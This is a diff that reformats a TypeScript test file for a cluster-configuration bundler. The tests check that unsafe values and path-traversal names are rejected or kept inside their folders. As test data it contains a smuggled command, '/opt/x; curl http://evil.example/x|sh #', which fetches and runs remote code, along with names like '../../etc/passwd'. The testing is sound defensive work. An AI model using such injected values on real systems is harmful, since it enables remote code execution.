@@ -14,12 +14,19 @@ async function entries(bytes: Uint8Array): Promise<Map<string, string>> {
 }
 
 describe('buildBundle', () => {
-  it('lays out each node\'s files, site.json and a manifest of sha-256 sums', async () => {
+  it("lays out each node's files, site.json and a manifest of sha-256 sums", async () => {
     const result = await buildBundle(haSite(), { format: 'zip' });
     if (!result.ok) throw new Error(result.reason);
     const files = await entries(result.bytes);
     for (const name of ['cp-1', 'worker-2']) {
-      for (const f of ['user-data', 'meta-data', 'README.txt', 'device/etc/rancher/rke2/config.d/90_userdata.yaml', 'device/etc/rancher/rke2/config.yaml', 'device/usr/local/cloud-config/cluster.kairos.yaml']) {
+      for (const f of [
+        'user-data',
+        'meta-data',
+        'README.txt',
+        'device/etc/rancher/rke2/config.d/90_userdata.yaml',
+        'device/etc/rancher/rke2/config.yaml',
+        'device/usr/local/cloud-config/cluster.kairos.yaml',
+      ]) {
         expect(files.has(`plant-7/${name}/${f}`), `${name}/${f}`).toBe(true);
       }
     }
@@ -61,17 +68,37 @@ describe('buildBundle', () => {
   });
 
   it('refuses a site with an unsafe value even when forced', async () => {
-    const site = variant((s) => Object.assign(s.airGap, { imageSource: 'archives', imagesPath: '/opt/x; curl http://evil.example/x|sh #' }));
+    const site = variant((s) =>
+      Object.assign(s.airGap, { imageSource: 'archives', imagesPath: '/opt/x; curl http://evil.example/x|sh #' }),
+    );
     const result = await buildBundle(site, { format: 'zip', force: true });
     expect(result.ok).toBe(false);
     expect(!result.ok && result.reason).toMatch(/unsafe value.*even when forced[\s\S]*airGap\.imagesPath/);
   });
 
   it('keeps hostile names inside their folder', async () => {
-    const hostile = ['../../etc/passwd', 'a/b\\c', 'tab and space', 'site.json', 'MANIFEST.json', 'ünïcødé-名前', 'x'.repeat(300), '.', '..', '', '.hidden'];
+    const hostile = [
+      '../../etc/passwd',
+      'a/b\\c',
+      'tab and space',
+      'site.json',
+      'MANIFEST.json',
+      'ünïcødé-名前',
+      'x'.repeat(300),
+      '.',
+      '..',
+      '',
+      '.hidden',
+    ];
     const site = variant((s) => {
       s.name = '../../../evil site';
-      s.nodes = hostile.map((name, i) => ({ ...s.nodes[Math.min(i, 4)]!, name, hostname: `host-${i}`, role: i === 0 ? 'init' : 'worker', address: `192.168.1.${30 + i}/24` }));
+      s.nodes = hostile.map((name, i) => ({
+        ...s.nodes[Math.min(i, 4)]!,
+        name,
+        hostname: `host-${i}`,
+        role: i === 0 ? 'init' : 'worker',
+        address: `192.168.1.${30 + i}/24`,
+      }));
     });
     const result = await buildBundle(site, { format: 'zip', force: true, iso: true });
     if (!result.ok) throw new Error(result.reason);
@@ -83,7 +110,15 @@ describe('buildBundle', () => {
     expect(folders.size).toBe(hostile.length + 2);
     for (const name of names) {
       expect(name.startsWith(`${root}/`)).toBe(true);
-      expect(name.split('/').every((seg) => seg !== '..' && seg !== '.' && seg !== '' && seg.length <= MAX_SEGMENT_LENGTH && /^[A-Za-z0-9_][A-Za-z0-9._-]*$/.test(seg)), name).toBe(true);
+      expect(
+        name
+          .split('/')
+          .every(
+            (seg) =>
+              seg !== '..' && seg !== '.' && seg !== '' && seg.length <= MAX_SEGMENT_LENGTH && /^[A-Za-z0-9_][A-Za-z0-9._-]*$/.test(seg),
+          ),
+        name,
+      ).toBe(true);
     }
   });
 
